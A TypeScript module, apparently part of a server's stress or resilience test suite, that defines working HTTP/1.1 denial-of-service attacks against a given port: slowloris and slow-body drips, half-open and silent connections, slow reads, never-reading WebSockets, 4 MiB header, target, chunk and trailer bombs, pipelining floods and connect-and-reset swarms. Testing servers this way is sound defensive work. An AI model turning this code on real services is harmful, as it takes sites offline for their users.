/** Attacks by HTTP/1.1. */
import type { Socket } from "node:net";
import type { Attack, HostileTarget } from "./hostile-attack.ts";
import { pause, Swarm } from "./hostile-swarm.ts";

const HEAD = "GET / HTTP/1.1\r\nHost: victim.example\r\n";
const DRIP_MS = 250;
const PIECE = Buffer.alloc(16_384, "a");
const KiB = 1024;
const BOMB_BYTES = 4 * KiB * KiB;

export const H1_ATTACKS: readonly Attack[] = [
	dripping("slowloris: a head that never ends", 1000, HEAD, "X-a: b\r\n"),
	dripping(
		"slow body: a byte at a time",
		500,
		"POST / HTTP/1.1\r\nHost: victim.example\r\nContent-Length: 1000000\r\n\r\n",
		"x",
	),
	dripping(
		"slow body in chunks of one byte",
		500,
		"POST / HTTP/1.1\r\nHost: victim.example\r\nTransfer-Encoding: chunked\r\n\r\n",
		"1\r\nx\r\n",
	),
	dripping("connections that say nothing", 2000, "", undefined),
	{
		name: "half-open: the client ended its side before it asked anything",
		size: 2000,
		run: (target, size, signal) => swarming(target, size, signal, (socket) => socket.end()),
	},
	{
		name: "slow read: large answers that nobody takes",
		size: 300,
		async run({ port, paths }, size, signal) {
			const swarm = new Swarm();
			const begin = (socket: Socket) => {
				socket.pause();
				socket.write(`GET ${paths.large} HTTP/1.1\r\nHost: victim.example\r\n\r\n`.repeat(20));
			};
			await swarm.join({ port, count: size, signal, begin, reads: false });
			await swarm.untilEnded(signal, DRIP_MS, () => undefined);
			swarm.leave();
			return String(swarm);
		},
	},
	{
		name: "a WebSocket that never reads",
		size: 200,
		async run({ port, paths }, size, signal) {
			const swarm = new Swarm();
			const begin = (socket: Socket) => {
				socket.pause();
				socket.write(
					`GET ${paths.endless} HTTP/1.1\r\nHost: victim.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n` +
						"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
				);
			};
			await swarm.join({ port, count: size, signal, begin, reads: false });
			await swarm.untilEnded(signal, DRIP_MS, () => undefined);
			swarm.leave();
			return String(swarm);
		},
	},
	bomb("one field of 4 MiB", 200, `${HEAD}X-bomb: `, PIECE),
	bomb("fields without end", 200, HEAD, Buffer.from("X-a: b\r\n".repeat(2000))),
	bomb("a target of 4 MiB", 200, "GET /", PIECE),
	bomb(
		"a chunk extension of 4 MiB",
		200,
		"POST / HTTP/1.1\r\nHost: victim.example\r\nTransfer-Encoding: chunked\r\n\r\n5;a=",
		PIECE,
	),
	bomb(
		"trailers without end",
		200,
		"POST / HTTP/1.1\r\nHost: victim.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n",
		Buffer.from("X-a: b\r\n".repeat(2000)),
	),
	{
		name: "requests pipelined without end, answers not read",
		size: 100,
		async run({ port }, size, signal) {
			const swarm = new Swarm();
			const many = Buffer.from(`${HEAD}\r\n`.repeat(400));
			await swarm.join({ port, count: size, signal, begin: (socket) => flood(socket, many), reads: false });
			await swarm.untilEnded(signal, DRIP_MS, () => undefined);
			swarm.leave();
			return String(swarm);
		},
	},
	{
		name: "connections that ask and leave before the answer",
		size: 5000,
		async run({ port, paths }, size, signal) {
			const swarm = new Swarm();
			const begin = (socket: Socket) =>
				socket.write(`GET ${paths.large} HTTP/1.1\r\nHost: victim.example\r\n\r\n`, () =>
					socket.resetAndDestroy(),
				);
			await swarm.join({ port, count: size, signal, begin });
			swarm.leave();
			return String(swarm);
		},
	},
];

function dripping(name: string, size: number, first: string, drip: string | undefined): Attack {
	return {
		name,
		size,
		run: (target, count, signal) =>
			swarming(
				target,
				count,
				signal,
				(socket) => {
					if (first !== "") socket.write(first);
				},
				drip,
			),
	};
}

/** Drips on every connection until all are ended by the other side. */
async function swarming(
	{ port }: HostileTarget,
	count: number,
	signal: AbortSignal,
	begin: (socket: Socket) => void,
	drip?: string,
): Promise<string> {
	const swarm = new Swarm();
	await swarm.join({ port, count, signal, begin });
	await swarm.untilEnded(signal, DRIP_MS, (socket) => {
		if (drip !== undefined) socket.write(drip);
	});
	swarm.leave();
	return String(swarm);
}

/** As much of `piece` as the other side takes, up to BOMB_BYTES on each connection. */
function bomb(name: string, size: number, first: string, piece: Buffer): Attack {
	return {
		name,
		size,
		async run({ port }, count, signal) {
			const swarm = new Swarm();
			const begin = (socket: Socket) => {
				socket.write(first);
				flood(socket, piece);
			};
			await swarm.join({ port, count, signal, begin });
			await swarm.untilEnded(signal, DRIP_MS, () => undefined);
			await pause(0, signal);
			swarm.leave();
			return String(swarm);
		},
	};
}

function flood(socket: Socket, piece: Buffer): void {
	let left = BOMB_BYTES;
	const more = () => {
		while (left > 0 && socket.writable) {
			left -= piece.length;
			if (!socket.write(piece)) return;
		}
	};
	socket.on("drain", more);
	more();
}
